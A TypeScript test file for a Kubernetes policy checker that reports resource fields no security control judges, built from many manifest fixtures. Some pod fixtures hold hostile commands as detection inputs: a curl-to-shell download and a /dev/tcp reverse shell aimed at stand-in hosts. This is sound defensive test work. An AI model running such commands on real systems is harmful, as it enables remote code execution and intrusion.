import assert from "node:assert/strict";

import { isJudged, unjudgedReasons } from "../../../policies/controls/judged";
import { PARTS } from "../../../policies/controls/unjudged-fields";
import { UnknownValueError } from "../../../policies/kubernetes/unknown";
import type { Manifest } from "../../support/controls";
import { stackOf } from "../../support/controls";

const told = (manifest: Manifest): readonly string[] => stackOf(manifest).given.flatMap(unjudgedReasons);

const object = (apiVersion: string, kind: string, rest: Manifest = {}, metadata: Manifest = {}): Manifest => ({
    apiVersion,
    kind,
    metadata: { name: "it", namespace: "shop", ...metadata },
    ...rest,
});
const kyverno = (rule: Manifest): Manifest => object("kyverno.io/v1", "ClusterPolicy", { spec: { rules: [rule] } });
const virtualService = (http: Manifest): Manifest =>
    object("networking.istio.io/v1", "VirtualService", { spec: { hosts: ["a"], http: [http] } });
const route = (rule: Manifest): Manifest =>
    object("gateway.networking.k8s.io/v1", "HTTPRoute", { spec: { rules: [rule] } });
const gateway = (spec: Manifest): Manifest => object("gateway.networking.k8s.io/v1", "Gateway", { spec });
const configMap = (name: string, namespace: string, data: Manifest): Manifest =>
    object("v1", "ConfigMap", { data }, { name, namespace });
const gzip = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]).toString("base64");
const MANAGED = { "endpointslice.kubernetes.io/managed-by": "endpointslice-controller.k8s.io" };
const slice = (metadata: Manifest, targetRef: Manifest): Manifest =>
    object(
        "discovery.k8s.io/v1",
        "EndpointSlice",
        { endpoints: [{ addresses: ["203.0.113.9"], targetRef }] },
        metadata,
    );
const ROLE = { "eks.amazonaws.com/role-arn": "arn:aws:iam::123456789012:role/a" };

/** A case of which nothing is told where `wanted` is left out. */
const caseOf = (manifest: Manifest, wanted?: string): readonly [Manifest, string?] =>
    wanted === undefined ? [manifest] : [manifest, wanted];

const ASKED = {
    apiGroups: [""],
    apiVersions: ["v1"],
    operations: ["CREATE", "UPDATE"],
    resources: ["pods", "pods/ephemeralcontainers"],
    scope: "*",
};

/** Each with the beginning of the one reason that is wanted, or none. */
const CASES: Readonly<Record<string, readonly [Manifest, string?]>> = {
    "storage of a volume": [
        object("v1", "PersistentVolume", { spec: { nfs: { server: "192.0.2.1", path: "/" } } }),
        "spec names storage",
    ],
    "a volume's options": [
        object("v1", "PersistentVolume", { spec: { local: { path: "/mnt/disks/a" }, mountOptions: ["suid"] } }),
        "spec.mountOptions is for the kernel",
    ],
    "a volume of a node, which a control knows": [
        object("v1", "PersistentVolume", { spec: { capacity: { storage: "1Gi" }, hostPath: { path: "/a" } } }),
    ],
    "Traefik's own interface": [
        object("traefik.io/v1alpha1", "IngressRoute", { spec: { routes: [{ services: [{ name: "api@internal" }] }] } }),
        "spec.routes[0].services[0].name publishes an interface",
    ],
    "a route of Traefik to a Service": [
        object("traefik.io/v1alpha1", "IngressRoute", { spec: { routes: [{ services: [{ name: "web" }] }] } }),
    ],
    "a claim of a volume by name": [
        object("v1", "PersistentVolumeClaim", { spec: { volumeName: "vault" } }),
        "spec asks for data",
    ],
    "a claim of a copy": [
        object("v1", "PersistentVolumeClaim", { spec: { dataSourceRef: { kind: "VolumeSnapshot", name: "a" } } }),
        "spec asks for data",
    ],
    "a claim of a new volume": [object("v1", "PersistentVolumeClaim", { spec: { volumeName: "", dataSource: null } })],
    "a provisioner nobody knows": [
        object("storage.k8s.io/v1", "StorageClass", { provisioner: "example.test/hostpath" }),
        "provisioner is one that",
    ],
    "a provisioner": [object("storage.k8s.io/v1", "StorageClass", { provisioner: "ebs.csi.aws.com" })],
    "a class's options": [
        object("storage.k8s.io/v1", "StorageClass", { provisioner: "ebs.csi.aws.com", mountOptions: ["dev"] }),
        "mountOptions is for the kernel",
    ],
    "a runtime": [object("node.k8s.io/v1", "RuntimeClass", { handler: "kata" }), "handler names a runtime"],
    "the default class of Ingresses": [
        object(
            "networking.k8s.io/v1",
            "IngressClass",
            {},
            {
                annotations: { "ingressclass.kubernetes.io/is-default-class": "true" },
            },
        ),
        'metadata.annotations["ingressclass.kubernetes.io/is-default-class"] gives every Ingress',
    ],
    "a class of Ingresses": [
        object(
            "networking.k8s.io/v1",
            "IngressClass",
            { spec: { controller: "k8s.io/ingress-nginx" } },
            {
                annotations: { "ingressclass.kubernetes.io/is-default-class": "false" },
            },
        ),
    ],
    "settings of a class of Ingresses": [
        object("networking.k8s.io/v1", "IngressClass", { spec: { parameters: { kind: "A", name: "a" } } }),
        "spec.parameters names settings",
    ],
    "settings of a class of Gateways": [
        object("gateway.networking.k8s.io/v1", "GatewayClass", { spec: { parametersRef: { name: "a" } } }),
        "spec.parametersRef names settings",
    ],
    "a node": [object("v1", "Node", { spec: { podCIDR: "192.0.2.0/24" } }), "spec is the kubelet's"],
    "a node's status": [object("v1", "Node", { status: {} })],
    "a rule that changes": [kyverno({ name: "a", mutate: { a: {} } }), "spec.rules[0].mutate changes"],
    "a rule that makes": [kyverno({ name: "a", generate: { kind: "Pod" } }), "spec.rules[0].generate makes"],
    "a rule that leaves out": [kyverno({ name: "a", exclude: { any: [{}] } }), "spec.rules[0].exclude leaves out"],
    "a rule that refuses": [kyverno({ name: "a", validate: { pattern: {} }, mutate: {} })],
    "an authority that asks nothing": [
        object("policy.sigstore.dev/v1beta1", "ClusterImagePolicy", {
            spec: { authorities: [{ static: { action: "pass" } }] },
        }),
        "spec.authorities[0].static.action lets images pass",
    ],
    "an authority that refuses": [
        object("policy.sigstore.dev/v1beta1", "ClusterImagePolicy", {
            spec: { authorities: [{ static: { action: "fail" } }, { key: { data: "a" } }] },
        }),
    ],
    "what a binding leaves out": [
        object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicyBinding", {
            spec: { validationActions: ["Deny"], matchResources: { excludeResourceRules: [{}] } },
        }),
        "spec.matchResources.excludeResourceRules leaves out",
    ],
    "a destination elsewhere": [
        virtualService({ route: [{ destination: { host: "a" } }, { destination: { host: "a.evil.svc" } }] }),
        "spec.http[0].route[1].destination.host sends traffic",
    ],
    "a destination in the namespace": [virtualService({ route: [{ destination: { host: "a" } }] })],
    "a mirror of a mesh": [virtualService({ mirror: { host: "a" } }), "spec.http[0].mirror sends a copy"],
    "a mirror of a route": [
        route({ filters: [{ type: "RequestHeaderModifier" }, { type: "RequestMirror", requestMirror: {} }] }),
        "spec.rules[0].filters[1] hands traffic",
    ],
    "a filter of a backend": [
        route({ backendRefs: [{ name: "a", filters: [{ type: "ExtensionRef" }] }] }),
        "spec.rules[0].backendRefs[0].filters[0] hands traffic",
    ],
    "a route to a backend": [route({ backendRefs: [{ name: "a", port: 80 }] })],
    "a listener for everybody": [
        gateway({ listeners: [{ name: "a", allowedRoutes: { namespaces: { from: "All" } } }] }),
        "spec.listeners[0].allowedRoutes.namespaces.from lets routes",
    ],
    "a listener for its namespace": [
        gateway({ listeners: [{ name: "a", allowedRoutes: { namespaces: { from: "Same" } } }] }),
    ],
    "clients that a gateway believes": [gateway({ tls: { frontend: {} } }), "spec.tls says which clients"],
    "settings of a gateway": [
        gateway({ infrastructure: { parametersRef: { name: "a" } } }),
        "spec.infrastructure.parametersRef names settings",
    ],
    "a policy for nodes": [
        object("projectcalico.org/v3", "GlobalNetworkPolicy", { spec: { doNotTrack: true, preDNAT: false } }),
        "spec.doNotTrack makes the policy one of nodes",
    ],
    "hooks of a backup": [
        object("velero.io/v1", "Schedule", { spec: { template: { hooks: { resources: [{}] } } } }),
        "spec.template.hooks runs commands",
    ],
    "a certificate that signs": [
        object("cert-manager.io/v1", "Certificate", { spec: { isCA: true } }),
        "spec.isCA asks for",
    ],
    "a certificate": [object("cert-manager.io/v1", "Certificate", { spec: { isCA: false } })],
    "a foreign trust domain": [
        object("spire.spiffe.io/v1alpha1", "ClusterFederatedTrustDomain", { spec: { trustDomain: "a.test" } }),
        "spec.trustDomain is a trust domain",
    ],
    "programs of the kubelet's": [
        object("kubelet.config.k8s.io/v1", "CredentialProviderConfig", { providers: [{ name: "a" }] }),
        "providers runs programs",
    ],
    "others that place pods": [
        object("kubescheduler.config.k8s.io/v1", "KubeSchedulerConfiguration", { extenders: [{ urlPrefix: "a" }] }),
        "extenders lets others",
    ],
    "a quota of some pods": [
        object("v1", "ResourceQuota", { spec: { hard: { pods: "1" }, scopes: ["BestEffort"] } }),
        "spec bounds only some pods",
    ],
    "a quota of all pods": [object("v1", "ResourceQuota", { spec: { hard: { pods: "1" }, scopes: [] } })],
    "addresses of a Service": [
        object("v1", "Endpoints", { subsets: [{ addresses: [{ ip: "192.0.2.1" }] }] }),
        "subsets sends the Service's traffic",
    ],
    "addresses of a Service in a slice": [
        object("discovery.k8s.io/v1", "EndpointSlice", { endpoints: [{ addresses: ["192.0.2.1"] }] }),
        "endpoints send a Service's traffic",
    ],
    "a slice that says whose it is, with an address of no pod": [
        object(
            "discovery.k8s.io/v1",
            "EndpointSlice",
            { endpoints: [{ addresses: ["192.0.2.1"] }] },
            { labels: MANAGED },
        ),
        "endpoints send a Service's traffic",
    ],
    "a slice that says it is a controller's": [
        slice({ labels: MANAGED }, { kind: "Pod", name: "a", namespace: "shop" }),
        "endpoints send a Service's traffic",
    ],
    "a slice of a controller's with another namespace's pod": [
        slice({ labels: MANAGED, resourceVersion: "7" }, { kind: "Pod", name: "a", namespace: "other" }),
        "endpoints send a Service's traffic",
    ],
    "a slice of a controller's": [
        object(
            "discovery.k8s.io/v1",
            "EndpointSlice",
            { endpoints: [{ addresses: ["192.0.2.1"], targetRef: { kind: "Pod", name: "a", namespace: "shop" } }] },
            { labels: MANAGED, resourceVersion: "7" },
        ),
    ],
    "a name of another namespace": [
        object("v1", "Service", { spec: { type: "ExternalName", externalName: "vault.vault.svc.cluster.local" } }),
        "spec.externalName leads to another namespace",
    ],
    "a name of another namespace in short": [
        object("v1", "Service", { spec: { type: "ExternalName", externalName: "vault.vault" } }),
        "spec.externalName leads to another namespace",
    ],
    "a name outside": [
        object("v1", "Service", { spec: { type: "ExternalName", externalName: "vault.a.test" } }),
        "spec.externalName leads to another namespace or out of the cluster",
    ],
    "a name inside": [
        object("v1", "Service", { spec: { type: "ExternalName", externalName: "web.shop.svc.cluster.local" } }),
    ],
    "what a policy of Cilium's leaves open": [
        object("cilium.io/v2", "CiliumNetworkPolicy", {
            spec: { enableDefaultDeny: { ingress: false, egress: true } },
        }),
        "spec.enableDefaultDeny.ingress leaves open",
    ],
    "a policy that is only tried": [
        object("projectcalico.org/v3", "StagedGlobalNetworkPolicy", { spec: { selector: "all()" } }),
        "spec is only tried",
    ],
    "an authorization of Linkerd's for everybody": [
        object("policy.linkerd.io/v1alpha1", "AuthorizationPolicy", {
            spec: { targetRef: { kind: "Server", name: "a" }, requiredAuthenticationRefs: [] },
        }),
        "spec asks nobody",
    ],
    "an authorization of Linkerd's": [
        object("policy.linkerd.io/v1alpha1", "AuthorizationPolicy", {
            spec: { requiredAuthenticationRefs: [{ kind: "MeshTLSAuthentication", name: "a" }] },
        }),
    ],
    "a kubeconfig that everybody reads": [
        configMap("cluster-info", "kube-public", { kubeconfig: "apiVersion: v1\nkind: Config\nclusters: []\n" }),
        "data configures a component",
    ],
    "a trigger": [
        object("argoproj.io/v1alpha1", "Sensor", { spec: { triggers: [{ template: { http: { url: "a" } } }] } }),
        "spec.triggers[0].template makes or calls",
    ],
    "a patch of a workflow": [
        object("argoproj.io/v1alpha1", "Workflow", { spec: { podSpecPatch: "{}", templates: [] } }),
        "spec.podSpecPatch changes the pods",
    ],
    "a patch of a step": [
        object("argoproj.io/v1alpha1", "WorkflowTemplate", { spec: { templates: [{ podSpecPatch: "{}" }] } }),
        "spec.templates[0].podSpecPatch changes the pods",
    ],
    "an executor of a step": [
        object("argoproj.io/v1alpha1", "Workflow", {
            spec: { templates: [{ executor: { serviceAccountName: "a" } }] },
        }),
        "spec.templates[0].executor changes the pods",
    ],
    "a mutation of one namespace": [
        object("policies.kyverno.io/v1beta1", "NamespacedMutatingPolicy", { spec: { mutations: [{}] } }),
        "spec.mutations changes what others apply, and no control judges more than privileges in it",
    ],
    "a namespace of administrators of devices, which a control knows": [
        object("v1", "Namespace", {}, { labels: { "resource.kubernetes.io/admin-access": "true" } }),
    ],
    "a namespace without signatures": [
        object("v1", "Namespace", {}, { labels: { "policy.sigstore.dev/include": "false" } }),
        'metadata.labels["policy.sigstore.dev/include"] has admission',
    ],
    "a namespace with signatures": [
        object("v1", "Namespace", {}, { labels: { "policy.sigstore.dev/include": "true", team: "shop" } }),
    ],
    "rights in a cloud": [
        object("v1", "ServiceAccount", {}, { annotations: ROLE }),
        'metadata.annotations["eks.amazonaws.com/role-arn"] gives rights',
    ],
    "other annotations": [object("v1", "ServiceAccount", {}, { annotations: { "example.test/role": "a" } })],
    "a copied Secret": [
        object("v1", "Secret", {}, { annotations: { "replicator.v1.mittwald.de/replicate-to": ".*" } }),
        'metadata.annotations["replicator.v1.mittwald.de/replicate-to"] has the object copied',
    ],
    "networks of a pod": [
        object("apps/v1", "Deployment", {
            spec: {
                template: {
                    metadata: { annotations: { "k8s.v1.cni.cncf.io/networks": "host" } },
                    spec: { containers: [{ name: "a", image: "a" }] },
                },
            },
        }),
        'spec.template.metadata.annotations["k8s.v1.cni.cncf.io/networks"] joins the pod',
    ],
    "annotations of a pod, once": [
        object(
            "v1",
            "Pod",
            { spec: { containers: [{ name: "a", image: "a" }] } },
            {
                annotations: { "k8s.v1.cni.cncf.io/networks": "host" },
            },
        ),
        'metadata.annotations["k8s.v1.cni.cncf.io/networks"] joins the pod',
    ],
    "defaults of a namespace's pods": [
        object("v1", "Namespace", {}, { annotations: { "scheduler.alpha.kubernetes.io/node-selector": "a=b" } }),
        'metadata.annotations["scheduler.alpha.kubernetes.io/node-selector"] changes the pods',
    ],
    "a quota of more than there is": [
        object("v1", "ResourceQuota", {
            spec: { hard: { "limits.memory": "99999Ti", "limits.cpu": "64", pods: "500" } },
        }),
        'spec.hard["limits.memory"] is more than any cluster has',
    ],
    "a range of more than there is": [
        object("v1", "LimitRange", { spec: { limits: [{ type: "Container", max: { cpu: "9000000" } }] } }),
        "spec.limits[0].max.cpu is more than any node has",
    ],
    "a mesh that takes any server": [
        object("networking.istio.io/v1", "DestinationRule", {
            spec: { host: "a", trafficPolicy: { tls: { mode: "SIMPLE", insecureSkipVerify: true } } },
        }),
        "spec.trafficPolicy.tls.insecureSkipVerify takes whoever answers",
    ],
    "a policy of a mesh that is only tried": [
        object(
            "security.istio.io/v1",
            "AuthorizationPolicy",
            { spec: { action: "DENY", rules: [{}] } },
            { annotations: { "istio.io/dry-run": "true" } },
        ),
        'metadata.annotations["istio.io/dry-run"] has the policy only tried',
    ],
    "a decision of somebody else": [
        object("security.istio.io/v1", "AuthorizationPolicy", { spec: { action: "CUSTOM", rules: [{}] } }),
        "spec.action leaves the decision",
    ],
    "the way to nodes": [
        object("cilium.io/v2", "CiliumNetworkPolicy", {
            spec: { endpointSelector: {}, egress: [{ toEntities: ["kube-apiserver", "host"] }] },
        }),
        "spec.egress[0].toEntities[1] lets pods reach",
    ],
    ...Object.fromEntries(
        (
            [
                ["nginx.ingress.kubernetes.io/auth-url", "https://a.test", true],
                ["nginx.ingress.kubernetes.io/server-alias", "bank.test", true],
                ["nginx.ingress.kubernetes.io/satisfy", "any", true],
                ["nginx.ingress.kubernetes.io/satisfy", "all", false],
                ["nginx.ingress.kubernetes.io/whitelist-source-range", "10.0.0.0/8, 0.0.0.0/0", true],
                ["nginx.ingress.kubernetes.io/whitelist-source-range", "10.0.0.0/8", false],
                ["nginx.ingress.kubernetes.io/proxy-body-size", "8m", false],
                ["traefik.ingress.kubernetes.io/router.middlewares", "a-b@kubernetescrd", true],
                ["external-dns.alpha.kubernetes.io/hostname", "bank.test", true],
                ["external-dns.alpha.kubernetes.io/ttl", "60", false],
                ["alb.ingress.kubernetes.io/scheme", "internet-facing", true],
                ["alb.ingress.kubernetes.io/scheme", "internal", false],
                ["io.katacontainers.config.hypervisor.path", "/a", true],
                ["cni.projectcalico.org/ipAddrs", '["10.0.0.1"]', true],
                ["cni.projectcalico.org/podIP", "10.0.0.1", false],
                ["policy.cilium.io/no-track-port", "53", true],
            ] as const
        ).map(([name, value, isTold]): [string, readonly [Manifest, string?]] => [
            `the annotation ${name} of ${value}`,
            caseOf(
                object("networking.k8s.io/v1", "NetworkPolicy", {}, { annotations: { [name]: value } }),
                isTold ? `metadata.annotations["${name}"] ` : undefined,
            ),
        ]),
    ),
    ...Object.fromEntries(
        (
            [
                ["of namespaces by a label", { namespaceSelector: { matchLabels: { a: "b" } } }, "namespaceSelector"],
                [
                    "of namespaces that opt out",
                    { namespaceSelector: { matchExpressions: [{ key: "skip", operator: "DoesNotExist" }] } },
                    "namespaceSelector",
                ],
                [
                    "of namespaces by their own names",
                    {
                        namespaceSelector: {
                            matchExpressions: [
                                { key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["kube-system"] },
                            ],
                        },
                    },
                ],
                ["of objects by a label", { objectSelector: { matchLabels: { a: "b" } } }, "objectSelector"],
                ["of other versions", { matchPolicy: "Exact" }, "matchPolicy"],
                ["of what is changed", { rules: [{ ...ASKED, operations: ["CREATE"] }] }, "rules asks about workloads"],
                ["of containers added later", { rules: [{ ...ASKED, resources: ["pods"] }] }, "rules leaves out"],
                [
                    "of everything by its scope",
                    { rules: [{ ...ASKED, scope: "Cluster" }] },
                    "rules asks with the scope",
                ],
                [
                    "of a person",
                    { matchConditions: [{ expression: "request.userInfo.username != 'a'" }] },
                    "matchConditions[0]",
                ],
                ["of everything by a condition", { matchConditions: [{ expression: "false" }] }, "matchConditions[0]"],
                [
                    "of the control plane",
                    { matchConditions: [{ expression: "request.userInfo.username != 'system:apiserver'" }] },
                ],
                ["by what objects are", { matchConditions: [{ expression: "object.kind != 'a'" }] }],
                ["of nothing", { namespaceSelector: {}, objectSelector: {}, matchPolicy: "Equivalent" }],
            ] as const
        ).map(([what, part, wanted]): [string, readonly [Manifest, string?]] => [
            `exemptions of a webhook ${what}`,
            caseOf(
                object("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", {
                    webhooks: [{ name: "a", rules: [ASKED], ...part }],
                }),
                wanted && `webhooks[0].${wanted}`,
            ),
        ]),
    ),
    "secrets of an address": [
        object("external-secrets.io/v1", "SecretStore", { spec: { provider: { webhook: { url: "https://a.test" } } } }),
        "spec.provider.webhook takes secrets",
    ],
    "an old standard for pods": [
        object("v1", "Namespace", {}, { labels: { "pod-security.kubernetes.io/enforce-version": "v1.20" } }),
        'metadata.labels["pod-security.kubernetes.io/enforce-version"] has admission treat',
    ],
    "a late standard for pods": [
        object("v1", "Namespace", {}, { labels: { "pod-security.kubernetes.io/enforce-version": "v1.30" } }),
    ],
    ...Object.fromEntries(
        (
            [
                ["of another scheduler", { schedulerName: "a" }, {}, "spec.schedulerName leaves"],
                ["of the scheduler", { schedulerName: "default-scheduler" }, {}],
                ["with devices", { resourceClaims: [{ name: "a" }] }, {}, "spec.resourceClaims brings"],
                [
                    "with a certificate",
                    { volumes: [{ name: "a", projected: { sources: [{ podCertificate: { signerName: "a/b" } }] } }] },
                    {},
                    "spec.volumes[0].projected.sources[0].podCertificate is given",
                ],
                ["with a disk", {}, { volumeDevices: [{ name: "a" }] }, "spec.containers[0].volumeDevices brings"],
                [
                    "with a profile on the nodes",
                    {},
                    { securityContext: { appArmorProfile: { type: "Localhost", localhostProfile: "a" } } },
                    "spec.containers[0].securityContext.appArmorProfile is a profile",
                ],
                [
                    "with a profile for all containers",
                    { securityContext: { appArmorProfile: { type: "Localhost", localhostProfile: "a" } } },
                    {},
                    "spec.securityContext.appArmorProfile is a profile",
                ],
                [
                    "with the runtime's profile",
                    { securityContext: { appArmorProfile: { type: "RuntimeDefault" } } },
                    {},
                ],
                ...[
                    "NODE_TLS_REJECT_UNAUTHORIZED=0",
                    "NODE_OPTIONS=--require /a.js",
                    "KUBERNETES_SERVICE_HOST=192.0.2.1",
                ].map((variable) => {
                    const [name, value] = variable.split("=");
                    return [`with ${variable}`, {}, { env: [{ name, value }] }, "spec.containers[0].env[0] "] as const;
                }),
                ...["NODE_TLS_REJECT_UNAUTHORIZED=1", "NODE_OPTIONS=--max-old-space-size=1", "toString=a"].map(
                    (variable) => {
                        const [name, value] = variable.split("=");
                        return [`with ${variable}`, {}, { env: [{ name, value }] }] as const;
                    },
                ),
                [
                    "that runs what an address serves",
                    {},
                    { command: ["sh", "-c"], args: ["curl -sS https://a.test/x | sh"] },
                    "spec.containers[0].command runs what",
                ],
                [
                    "that opens a way to a shell when it starts",
                    {},
                    { lifecycle: { postStart: { exec: { command: ["bash", "-c", "sh >& /dev/tcp/192.0.2.1/1"] } } } },
                    "spec.containers[0].lifecycle.postStart.exec.command opens",
                ],
                ["that asks an address", {}, { command: ["sh", "-c", "curl https://a.test | grep ok"] }],
            ] as const
        ).map(([what, spec, container, wanted]): [string, readonly [Manifest, string?]] => [
            `a pod ${what}`,
            caseOf(
                object("v1", "Pod", { spec: { containers: [{ name: "a", image: "a", ...container }], ...spec } }),
                wanted,
            ),
        ]),
    ),
    "exemptions of a policy": [
        object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy", {
            spec: { matchConstraints: { resourceRules: [ASKED], excludeResourceRules: [ASKED] } },
        }),
        "spec.matchConstraints.excludeResourceRules leaves out",
    ],
    "exemptions of a binding by a label": [
        object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicyBinding", {
            spec: { validationActions: ["Deny"], matchResources: { namespaceSelector: { matchLabels: { a: "b" } } } },
        }),
        "spec.matchResources.namespaceSelector leaves out",
    ],
    "exemptions of a binding by names": [
        object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicyBinding", {
            spec: {
                validationActions: ["Deny"],
                matchResources: { resourceRules: [{ ...ASKED, resourceNames: ["a"] }] },
            },
        }),
        "spec.matchResources.resourceRules[0].resourceNames narrows",
    ],
    ...Object.fromEntries(
        (
            [
                ["over service accounts", "", "serviceaccounts", "patch", "gives patch on serviceaccounts"],
                ["over revisions", "apps", "controllerrevisions", "update", "gives update on controllerrevisions"],
                [
                    "over what nobody knows",
                    "example.com",
                    "widgets",
                    "create",
                    "lets it write widgets.example.com, and",
                ],
                [
                    "over an action of what nobody knows",
                    "example.com",
                    "widgets/run",
                    "create",
                    "lets it write widgets/run.example.com",
                ],
                ["to read what nobody knows", "example.com", "widgets", "get"],
                ["over a status", "example.com", "widgets/status", "update"],
                ["that a control knows", "argoproj.io", "workflows", "create"],
                ["over what does nothing", "", "services", "get"],
                ["that a wildcard gives", "example.com", "*", "create"],
            ] as const
        ).map(([what, group, resource, verb, wanted]): [string, readonly [Manifest, string?]] => [
            `rights ${what}`,
            caseOf(
                object("rbac.authorization.k8s.io/v1", "Role", {
                    rules: [{ apiGroups: [group], resources: [resource], verbs: [verb] }],
                }),
                wanted && `rules[0] ${wanted}`,
            ),
        ]),
    ),
    "rights over four of what nobody knows, three by name": [
        object("rbac.authorization.k8s.io/v1", "ClusterRole", {
            rules: [{ apiGroups: ["example.com"], resources: ["a", "b", "c", "d"], verbs: ["*"] }],
        }),
        "rules[0] lets it write a.example.com, b.example.com, c.example.com and 1 more, and",
    ],
    "rights over a webhook by its name": [
        object("rbac.authorization.k8s.io/v1", "ClusterRole", {
            rules: [
                {
                    apiGroups: ["admissionregistration.k8s.io"],
                    resources: ["validatingwebhookconfigurations"],
                    verbs: ["patch"],
                    resourceNames: ["guard"],
                },
            ],
        }),
        "rules[0] gives patch on validatingwebhookconfigurations, and",
    ],
    "what configures the cluster": [configMap("anything", "kube-system", { a: "b" }), "data configures a component"],
    "what a mesh obeys": [configMap("istio", "mesh", { mesh: "trustDomain: a" }), "data configures a component"],
    "what the cluster restores": [configMap("kube-root-ca.crt", "kube-system", { "ca.crt": "a" })],
    "what is read as a component's": [
        configMap("kube-proxy", "kube-system", {
            "config.conf": "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\n",
        }),
    ],
    "what an application reads": [configMap("settings", "shop", { a: "b" })],
    "a script": [
        configMap("a", "shop", { run: "#!/bin/sh\nkubectl -n a create rolebinding b --role=c" }),
        "data.run changes a cluster where it is run",
    ],
    "a script of helm": [configMap("a", "shop", { run: "helm -n a upgrade b c" }), "data.run changes a cluster"],
    "a program of Terraform": [
        configMap("a", "shop", { "a.tf": 'resource "kubernetes_pod_v1" "a" {}' }),
        'data["a.tf"] changes a cluster',
    ],
    "a script that reads": [configMap("a", "shop", { run: "kubectl get pods | grep create" })],
    "what is compressed": [object("v1", "ConfigMap", { binaryData: { a: gzip } }), "binaryData.a is compressed"],
    "a release of Helm": [
        object("v1", "Secret", { type: "helm.sh/release.v1", data: { release: Buffer.from(gzip).toString("base64") } }),
        "data.release is compressed",
    ],
};

describe("Parts of objects that no control knows", () => {
    for (const [what, [manifest, wanted]] of Object.entries(CASES)) {
        it(wanted === undefined ? `are not ${what}` : `are ${what}`, () => {
            const reasons = told(manifest);
            assert.equal(reasons.length, wanted === undefined ? 0 : 1, reasons.join("\n"));
            assert.ok(
                reasons.every((reason) => reason.startsWith(wanted ?? "")),
                reasons.join("\n"),
            );
        });
    }

    it("are of kinds of which a control knows the rest", () => {
        const strangers = PARTS.flatMap(({ kinds }) => kinds).filter((name) => {
            const [kind = "", group] = name.split("/").reverse();
            return !stackOf(object(group === undefined ? "v1" : `${group}/v1`, kind)).given.every(isJudged);
        });
        assert.deepEqual(strangers, []);
    });

    it("are named where they are unknown in preview", () => {
        const unknown = Object.defineProperty(object("velero.io/v1", "Schedule"), "spec", {
            enumerable: true,
            get: () => {
                throw new UnknownValueError(["spec"]);
            },
        });
        assert.deepEqual(told(unknown), ["spec runs commands in pods, which no control judges"]);
    });

    it("are told of what stands whole in a kind that carries pods, which is judged by itself", () => {
        const pod = object("v1", "Pod", { spec: { hostPID: true, containers: [{ name: "a", image: "a" }] } });
        const sensor = object("argoproj.io/v1alpha1", "Sensor", {
            spec: { triggers: [{ template: { k8s: { source: { resource: pod } } } }] },
        });
        const experiment = object("kubeflow.org/v1beta1", "Experiment", {
            spec: { trialTemplate: { trialSpec: object("batch/v1", "Job", { spec: { template: pod } }) } },
        });
        assert.deepEqual(
            stackOf(sensor, experiment)
                .objects.map(({ kind, prefix }) => `${kind} ${prefix}`)
                .sort(),
            ["Experiment ", "Pod spec.triggers[0].template.k8s.source.resource.", "Sensor "],
        );
    });
});
